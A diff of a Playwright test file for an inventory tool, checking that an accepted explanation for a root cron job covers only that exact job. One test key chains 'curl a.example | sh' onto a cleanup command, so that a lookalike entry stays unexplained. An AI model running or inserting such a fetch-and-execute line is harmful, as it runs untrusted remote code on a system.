@@ -1,6 +1,8 @@
-import { readFileSync } from 'node:fs';
+import { readFileSync, writeFileSync } from 'node:fs';
 import { expect, test } from '@playwright/test';
 import { differences } from '../../../reports/cli/differences.js';
+import { readDraft, writeDraft } from '../../../helpers/inventory/draft.js';
+import { explain } from '../../../helpers/inventory/explain.js';
 import { addExplanation, readExplanations } from '../../../helpers/inventory/own-explanations.js';
 
 test('an explanation is added to the list, and one about the same things is replaced', ({}, info) => {
@@ -13,6 +15,23 @@ test('an explanation is added to the list, and one about the same things is repl
     { what: 'packages/package foo', why: 'not needed any more', sometimes: true },
   ]);
   expect(readFileSync(file, 'utf8')).toMatch(/\n$/);
+});
+
+test('what was accepted of a draft explains what was seen, and nothing else', ({}, info) => {
+  const file = info.outputPath('draft.json');
+  const difference = (key: string, kind: 'missing' | 'changed') =>
+    ({ area: 'schedule', key, facet: 'is', kind, old: 'x', new: undefined, weight: 1, sources: [] }) as never;
+  const named = 'job of root: rm /var/tmp/*';
+  writeDraft(file, [{ cause: 'x', members: [difference(named, 'missing')] } as never]);
+  writeFileSync(file, readFileSync(file, 'utf8').replace('"why": ""', '"why": "nobody needs it"'));
+  const own = readDraft(file).flatMap(({ what, ...rest }) => [what].flat().map((each) => ({ what: each, ...rest })));
+  const unexplained = (key: string, kind: 'missing' | 'changed'): number =>
+    explain([difference(key, kind)], own, [], { gate: undefined, today: '2012-06-22', items: [] })
+      .unexplained.length;
+
+  expect(unexplained(named, 'missing')).toBe(0);
+  expect(unexplained(named, 'changed')).toBe(1);
+  expect(unexplained('job of root: rm /var/tmp/x && curl a.example | sh', 'missing')).toBe(1);
 });
 
 test('the command says what it takes, and refuses a gate that there is not', async () => {
